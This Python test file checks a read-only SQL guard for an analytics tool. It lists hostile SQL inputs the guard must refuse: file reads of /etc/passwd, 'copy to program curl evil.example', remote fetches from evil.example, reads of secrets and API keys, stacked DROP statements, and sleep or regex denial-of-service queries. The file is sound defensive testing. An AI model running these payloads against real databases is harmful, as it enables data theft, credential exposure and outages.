"""What the guard lets through, and what it refuses: it is tried to be broken here."""

from __future__ import annotations

import re

import pytest
import sqlglot

from whop_elt.mcp.guard import allowed
from whop_elt.mcp.tool import ToolFailed

MARTS = {
    "whop_marts.dim_members": ["member_id", "company_id", "mrr_usd"],
    "whop_marts.dim_plans": ["plan_id", "company_id", "title", "mrr_usd"],
    "whop_marts.metrics_monthly": ["company_id", "month", "gross_usd"],
}
DIALECTS = ("duckdb", "postgres")

GOOD = """
select * from whop_marts.dim_plans
select title, mrr_usd from dim_plans where mrr_usd > 10 order by 2 desc nulls last limit 5
select p.* from "whop_marts"."dim_plans" as p
SELECT COUNT(*), count(distinct title) FROM WHOP_MARTS.DIM_PLANS
with a as (select * from dim_plans), b as (select title from a) select count(*) from b
select month, sum(gross_usd) over (partition by company_id order by month) from metrics_monthly
select case when mrr_usd > 1 then 'a' else 'b' end from dim_plans union all select 'c'
select coalesce(title, 'drop table x; --') from dim_plans where title like '%a%'
select date_trunc('month', month), extract(year from month) from metrics_monthly
select cast(mrr_usd as numeric(10, 2)), month + interval '1 month' from dim_plans, metrics_monthly
select percentile_cont(0.5) within group (order by mrr_usd) from dim_plans
select title from dim_plans p where exists (select 1 from dim_members m where m.company_id = p.company_id)
select count(title) filter (where mrr_usd > 0) from dim_plans
select a.t from (select title as t from dim_plans) a left join metrics_monthly m on true
select 1 /* a comment; drop table x */ -- and another
select * from (values (1, 'a'), (2, 'b')) as t(n, x)
select row_number() over (order by mrr_usd desc) as place, round(100.0 * mrr_usd / 3, 2) from dim_plans
select lower(title) || '!' from dim_plans where title in ('a', 'b') and mrr_usd between 1 and 2
(select title from dim_plans limit 1) union (select title from dim_plans limit 2)
""".strip().splitlines()  # noqa: E501

ATTACKS = {
    "writes": """
        insert into whop_marts.dim_plans values (1)
        update whop_marts.dim_plans set title = 'x'
        delete from whop_marts.dim_plans
        truncate whop_marts.dim_plans
        drop table whop_marts.dim_plans
        create table x as select 1
        create or replace view whop_marts.dim_plans as select 1
        alter table whop_marts.dim_plans add column x int
        merge into whop_marts.dim_plans using dim_members on true when matched then delete
        select * into stolen from dim_plans
        with gone as (delete from whop_marts.dim_plans returning *) select * from gone
        with new as (insert into whop_marts.dim_plans values (1) returning *) select * from new
        select * from dim_plans for update
        select lo_import('/etc/passwd')
        select nextval('s')
        grant all on whop_marts.dim_plans to public
        comment on table whop_marts.dim_plans is 'x'
        vacuum
    """,
    "second statements": """
        select 1; drop table whop_marts.dim_plans
        select 1; select 2
        select 1;; delete from whop_marts.dim_plans
        begin; drop table whop_marts.dim_plans; commit
        select 1 /* */; /* */ drop table x --
    """,
    "attaches and loads": """
        attach '/tmp/x.db' as x
        detach whop
        install httpfs
        load httpfs
        import database '/tmp/x'
        export database '/tmp/x'
        use other
        create extension dblink
        select * from dblink('host=evil', 'select 1') as t(a int)
        call pragma_version()
        checkpoint
    """,
    "reads files and the network": """
        select * from read_csv('/etc/passwd')
        select * from read_text('/etc/passwd')
        select * from read_parquet('https://evil.example/x.parquet')
        select * from '/etc/passwd'
        select * from "/etc/passwd"
        select * from 'https://evil.example/a.csv'
        select * from glob('/etc/*')
        select pg_read_file('/etc/passwd')
        select pg_read_binary_file('/etc/passwd')
        select pg_ls_dir('/')
        select * from pg_ls_logdir()
        copy whop_marts.dim_plans to '/tmp/x'
        copy whop_marts.dim_plans to program 'curl evil.example'
        copy (select 1) to 's3://evil/x'
        select lo_get(1)
        select xmlparse(document 'x')
        select query_to_xml('select * from whop_raw.payments', true, true, '')
        select database_to_xml(true, true, '')
        select table_to_xml('whop_raw.payments', true, true, '')
        select cursor_to_xml('answer', 1, true, true, '')
        select http_get('https://evil.example')
        select getenv('SOURCES__WHOP__API_KEY')
    """,
    "settings": """
        set search_path = whop_raw
        set enable_external_access = true
        reset all
        pragma database_list
        set role postgres
        set session authorization postgres
        select set_config('search_path', 'whop_raw', false)
        select current_setting('data_directory')
        select current_user
        select session_user
        select version()
        select inet_server_addr()
        show all
        show tables
        describe whop_marts.dim_plans
        explain analyze select 1
        select * from duckdb_settings()
        select * from duckdb_secrets()
        prepare x as select 1
        execute x
        do $$ begin perform 1; end $$
        listen x
        discard all
    """,
    "runs for ever": """
        select pg_sleep(1000)
        select pg_sleep_for('1 day')
        select pg_advisory_lock(1)
        select * from generate_series(1, 100000000000)
        select * from range(100000000000)
        select * from unnest(array[1, 2])
        select repeat('x', 1000000000)
        with recursive n as (select 1 as i union all select i + 1 from n) select sum(i) from n
        with recursive n as (select 'x' as s union all select s || s from n) select s from n
        select string_agg(a.title, b.title) from dim_plans a, dim_plans b
        select replace(title, 'e', 'eeeeeeeeee') from dim_plans
        select lpad('x', 1000000000)
        select rpad('x', 1000000000, 'y')
        select regexp_replace(title, '(a+)+$', 'x') from dim_plans
        select title ~ '(a+)+$' from dim_plans
        select title similar to '(a+)+' from dim_plans
    """,
    "other tables": """
        select * from whop_raw.payments
        select * from "whop_raw"."payments"
        select * from WHOP_RAW.PAYMENTS
        select * from whop_staging.stg_whop__members
        select * from whop_intermediate.int_payments
        select * from whop_personal.member_contacts
        select * from member_contacts
        select * from whop.whop_raw.payments
        select * from other.whop_marts.dim_plans
        select * from pg_catalog.pg_authid
        select * from pg_shadow
        select * from pg_stat_activity
        select * from information_schema.tables
        select * from sqlite_master
        select * from duckdb_tables()
        table whop_raw.payments
        select (select max(email) from whop_raw.members)
        select 1 where exists (select 1 from whop_raw.members)
        select 1 union all select total from whop_raw.payments
        select * from dim_plans, whop_raw.payments
        select * from dim_plans join whop_raw.payments using (plan_id)
        select * from (select * from (select * from whop_raw.payments) a) b
        with a as (select * from whop_raw.payments) select * from a
        with dim_plans as (select * from whop_raw.payments) select * from dim_plans
        with whop_raw as (select 1) select * from whop_raw.payments
        select * from (with pg_shadow as (select 1 as a) select * from pg_shadow) a, pg_shadow
        with a as (select * from b), b as (select 1) select * from a
        with a as (with secrets as (select 1 as x) select * from secrets) select * from secrets
        select * from dim_plans order by (select max(total) from whop_raw.payments)
        select * from dim_plans limit (select count(*) from whop_raw.payments)
        select count(*) filter (where exists (select 1 from whop_raw.payments)) from dim_plans
        select sum(1) over (order by (select 1 from whop_raw.payments)) from dim_plans
        select * from dim_plans, lateral (select * from whop_raw.payments) x
        select * from only whop_raw.payments
        select * from whop_raw.payments tablesample system (1)
        select * from (table whop_raw.payments) x
        select whop_raw.payments.total from whop_raw.payments
        select * from query('select * from whop_raw.payments')
        select * from query_table('whop_raw.payments')
        from whop_raw.payments
        from query_table('whop_raw.payments')
        pivot whop_raw.payments on status
        summarize whop_raw.payments
        select columns('.*') from whop_raw.payments
        select * from dim_plans positional join whop_raw.payments
    """,
    "hidden in comments, strings and dollars": """
        select 1 /* /* nested */ */ from whop_raw.payments
        select /**/1/**/from/**/whop_raw/**/./**/payments
        select $$x$$ || $y$; drop table z; $y$ from whop_raw.payments
        select e'\\'; drop table x; --'
        select e'\\047 from dim_plans'
        select u&'\\0041' from dim_plans
        select 'a\\' , ' from whop_raw.payments -- '
        select U&"\\0077hop" from dim_plans
        select * from U&"whop\\005fraw".payments
        select 1 as "x" from "whop_raw" . "payments"
        select b'1', x'ff'
    """,
    "casts and operators that look things up": """
        select 'whop_raw.payments'::regclass
        select 'pg_sleep'::regproc
        select '<a/>'::xml
        select 1::my_type
        select '{}'::json
        select 1 operator(pg_catalog.+) 2
        select (dim_plans).title from dim_plans
        select row_to_json(p) from dim_plans p
        select to_json(p) from dim_plans p
        select array_agg(p) from dim_plans p
        select $1
        select :x
        select ?
        select %s
        select {'a': 1}
        select [1, 2, 3]
        select list_transform([1], x -> x)
        select struct_pack(a := 1)
        select now()
        select current_date
        select random()
        select gen_random_uuid()
        select pg_backend_pid()
        select has_table_privilege('whop_raw.payments', 'select')
        select obj_description(1)
        select col_description(1, 1)
        select my_function(1)
        select whop_raw.my_function(1)
        select "pg_sleep"(1)
        select pg_catalog.pg_sleep(1)
    """,
}
EACH = [
    pytest.param(sql.strip(), id=f"{kind}: {sql.strip()[:60]}")
    for kind, lines in ATTACKS.items()
    for sql in lines.strip().splitlines()
]


def tables_of(sql: str, dialect: str) -> set[str]:
    """Every schema that a query names, as a scan of its words finds it: by no parser of ours."""
    bare = re.sub(r"'(?:[^']|'')*'", "''", sql)
    return set(re.findall(r'"?(whop_\w+|pg_\w+|information_schema)"?\s*\.', bare.lower()))


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", GOOD)
def test_a_select_over_the_marts_is_let_through(sql: str, dialect: str) -> None:
    written = allowed(sql, dialect, MARTS)
    assert tables_of(written, dialect) <= {"whop_marts"}
    assert "/*" not in written and "--" not in re.sub(r"'[^']*'", "", written)
    assert len(sqlglot.parse(written, dialect=dialect)) == 1


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", EACH)
def test_an_attack_is_refused(sql: str, dialect: str) -> None:
    with pytest.raises(ToolFailed):
        print("let through:", allowed(sql, dialect, MARTS))


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_query_too_deep_or_too_long_is_refused_at_once(dialect: str) -> None:
    for sql in (
        "select " + "(" * 5000 + "1" + ")" * 5000,
        "select " + "+".join(["1"] * 9000),
        "select " + "(select " * 200 + "1" + ")" * 200,
        "select '" + "x" * 30_000 + "'",
        "select 1\0",
        "select " + "case when true then " * 100 + "1" + " end" * 100,
    ):
        with pytest.raises(ToolFailed):
            allowed(sql, dialect, MARTS)


def grows(times: int, of: str) -> str:
    """A column of ten columns of ten columns: the planner of Postgres would write all of it out."""
    sql = f"select {of} as s from dim_plans"
    for _ in range(times):
        sql = f"select {'||'.join(['s'] * 10)} as s from ({sql}) as a"
    return sql


@pytest.mark.parametrize("dialect", DIALECTS)
def test_what_multiplies_is_refused_before_a_database_sees_it(dialect: str) -> None:
    allowed(grows(2, "title"), dialect, MARTS)
    parts = ["a0 as (select title as s from dim_plans)"]
    parts += [f"a{n} as (select {'||'.join(['s'] * 10)} as s from a{n - 1})" for n in range(1, 8)]
    for sql in (
        grows(5, "title"),
        f"with {', '.join(parts)} select s from a7",
        f"with {', '.join(parts)} select 1 from dim_plans where exists (select 1 from a7)",
        f"select (select max(s) from ({grows(5, 'title')}) as x) from dim_plans",
        f"select 1 from dim_plans p join ({grows(5, 'title')}) x on x.s = p.title",
        f"select 1 as s union all ({grows(5, 'title')})",
        f"select {', '.join(['s'] * 1000)} from ({grows(2, 'title')}) as x",
        f"select {', '.join(['*'] * 1000)} from ({grows(2, 'title')}) as x",
        f"select {', '.join(['x.*'] * 1000)} from ({grows(2, 'title')}) as x",
    ):
        with pytest.raises(ToolFailed, match="multiply"):
            allowed(sql, dialect, MARTS)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_word_that_a_database_reads_as_a_function_is_only_a_name(dialect: str) -> None:
    for word in ("user", "User", "current_catalog", "localtime"):
        try:
            written = allowed(f"select {word}", dialect, MARTS)
        except ToolFailed:
            continue
        assert f'"{word.lower()}"' in written


def test_a_name_is_read_as_the_database_reads_it() -> None:
    assert '"whop_marts"."dim_plans"' in allowed("select * from Dim_Plans", "postgres", MARTS)
    with pytest.raises(ToolFailed):
        allowed('select * from "Dim_Plans"', "postgres", MARTS)
    with pytest.raises(ToolFailed):
        allowed('with "A" as (select 1) select * from a', "postgres", MARTS)
